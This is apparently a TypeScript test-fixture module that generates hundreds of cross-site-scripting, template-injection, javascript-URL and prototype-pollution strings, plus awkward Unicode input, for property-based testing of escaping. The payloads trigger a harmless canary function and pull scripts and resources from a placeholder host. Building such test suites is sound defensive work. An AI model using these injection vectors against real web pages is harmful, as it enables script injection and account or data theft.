import fc from 'fast-check';

/** The function that a hostile text would call if it ran as code, and the host it would contact. */
export const HOSTILE_CALL = 'hostileTextRan';
export const HOSTILE_HOST = 'hostile-text.invalid';

const run = `window.${HOSTILE_CALL}&&window.${HOSTILE_CALL}()`;
const from = `//${HOSTILE_HOST}/x`;

/** Ways out of where a text may have been put: an attribute, a script, a comment, a style, a template. */
const OUT_OF = [
	'',
	'"\'>',
	'</script>',
	'</style></title></textarea>',
	'--><![CDATA[]]>',
	'`}}{{',
	'\0\u2028\\u003c',
];

const TAGS = [
	...[`<img src=${from} onerror=${run}>`, `<IMG SRC=x OnErRoR="${run}">`, `<img/src='x'/onerror='${run}'/>`],
	...[
		`<svg onload=${run}>`,
		`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
		`<svg><script>${run}</script>`,
	],
	...[`<script>${run}</script>`, `<script src=${from}></script>`, `<ScRiPt\n>${run}</sCrIpT >`],
	...[`<iframe src=javascript:${run}>`, `<iframe srcdoc="<script>parent.${HOSTILE_CALL}()</script>">`],
	...[`<object data=${from}>`, `<embed src=${from}>`, `<video><source onerror=${run}></video>`],
	...[
		`<audio src=${from} onerror=${run}>`,
		`<input autofocus onfocus=${run}>`,
		`<details open ontoggle=${run}>`,
	],
	...[`<body onload=${run}>`, `<marquee onstart=${run}>`, `<form action=${from}><button>x</button></form>`],
	...[`<a href="javascript:${run}">x</a>`, `<a href='data:text/html,<script>${run}</script>'>x</a>`],
	...[
		`<link rel=stylesheet href=${from}>`,
		`<link rel=prefetch href=${from}>`,
		`<style>@import '${from}';</style>`,
	],
	...[
		`<meta http-equiv=refresh content="0;url=${from}">`,
		`<base href=${from}>`,
		`<template><img src=${from}></template>`,
	],
	...[`<div style="background:url(${from})">`, `<p style=animation-name:x onanimationstart=${run}>`],
	...[`<math><mtext><img src=x onerror=${run}>`, `<noscript><img src=x onerror=${run}></noscript>`],
	...[
		`<select><option onclick=${run}>x</select>`,
		`<table background=${from}>`,
		`<isindex formaction=${from}>`,
	],
];

/** The same in the disguises that filters have let through. */
const DISGUISES: readonly ((text: string) => string)[] = [
	(text) => text,
	(text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(text) => text.replaceAll('<', '\\x3c'),
];

const EXPRESSIONS = [
	...[`{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `$t(${run})`],
	...[
		`javascript:${run}`,
		`jAvAsCrIpT:${run}`,
		` \tjavascript:${run}`,
		`data:text/html,<script>${run}</script>`,
	],
	...[
		'__proto__',
		'constructor.prototype',
		'{"__html":"<img src=x>"}',
		`[x](javascript:${run})`,
		`![x](${from})`,
	],
];

/** More than seven hundred texts that a page would not show as text if it did not escape them. */
export const hostileTexts: readonly string[] = [
	...OUT_OF.flatMap((out) => TAGS.flatMap((tag) => DISGUISES.map((disguise) => disguise(out + tag)))),
	...EXPRESSIONS,
];

/** Pieces that make trouble: controls, direction marks, other scripts, characters of two units, halves of them. */
const TROUBLE = [
	'\0',
	'\n',
	'\r',
	'"',
	'\\',
	'\u2028',
	'\u202e',
	'\u2069',
	'\ufeff',
	'é',
	'日',
	'س',
	'😀',
	'\ud800',
	'\udc00',
];

/** Any string at all, lone surrogates included; far cheaper to make than fast-check's own of every code point. */
export const anyText: fc.Arbitrary<string> = fc
	.array(
		fc.oneof(
			fc.constantFrom(...TROUBLE),
			fc.nat({ max: 0xffff }).map((unit) => String.fromCharCode(unit)),
		),
		{
			maxLength: 30,
		},
	)
	.map((pieces) => pieces.join(''));
